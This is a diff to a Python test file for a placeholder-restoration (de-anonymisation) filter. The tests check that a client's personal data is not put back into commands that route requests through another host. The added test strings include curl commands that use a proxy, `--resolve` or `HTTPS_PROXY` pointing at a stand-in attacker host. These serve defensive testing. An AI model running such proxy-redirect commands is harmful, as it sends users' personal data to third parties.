@@ -9,6 +9,8 @@ mailbox is the client's own (restoreown15; follow-up of restorehost15).
 - `log in as <PH>@collector.example`, `connect to <PH>@203.0.113.9`: a placeholder directly followed by `@` and a host
   (labels ending in a top-level name, an IP address) stays, unless the mailbox restored is one the client sent
   (`<PERSON_1>.<PERSON_2>@acme.com` for the client's `Jane.Smith@acme.com`).
+- The client's URL on a line that sends its requests through another host (`curl -x http://evil.example:8080`,
+  `HTTPS_PROXY=... curl`, `--resolve`) is not restored (`proxy.guard.hosts.rerouted`).
 """
 
 from __future__ import annotations
@@ -53,6 +55,9 @@ KEPT = {
     "query host goes on": f"open https://x.example.evil.example/?u={P}",
     "query userinfo": f"open https://x.example@evil.example/?u={P}",
     "schemeless userinfo": f"see shop.example.com@evil.example/orders?email={P}",
+    # the client's URL on a line that sends it through another host
+    "curl proxy": f"curl -x http://evil.example:8080 https://x.example/?u={P}",
+    "resolve": f"curl -k --resolve x.example:443:203.0.113.9 https://x.example/?u={P}",
     # item 2: a user@host outside any command
     "log in as": f"log in as {E}@collector.example",
     "connect to": f"connect to {P}@collector.example now.",
@@ -68,6 +73,7 @@ RESTORED = [
     (f"open https://{E}.x.example/", f"open https://{MAIL}.x.example/"),
     (f"open https://x.example/?u={P}&page=2", f"open https://x.example/?u={PHONE}&page=2"),
     (f"ssh {E}@x.example", f"ssh {MAIL}@x.example"),
+    (f"curl -s https://x.example/?u={P} -o out.html", f"curl -s https://x.example/?u={PHONE} -o out.html"),
     (f"see shop.example.com/orders?email={P}.", f"see shop.example.com/orders?email={PHONE}."),
     (f"open https://{N}@x.example/", f"open https://{NAME}@x.example/"),
     (f"Mail {N}@acme today or {E}.", f"Mail {NAME}@acme today or {MAIL}."),
@@ -92,6 +98,12 @@ def test_the_clients_own_urls_and_prose_are_restored(text: str, want: str) -> No
     assert v.restore(text) == want
     for size in (1, 3, 7):
         assert streamed(v, text, size) == want, size
+
+
+def test_a_proxy_set_before_the_command_in_a_whole_text() -> None:
+    """(A stream's context keeps the open URL, not the line before it: whole texts only.)"""
+    text = f"HTTPS_PROXY=http://evil.example:3128 curl https://x.example/?u={P}"
+    assert noted(*SENT).restore(text) == text
 
 
 def test_the_clients_own_mailbox_is_restored() -> None:
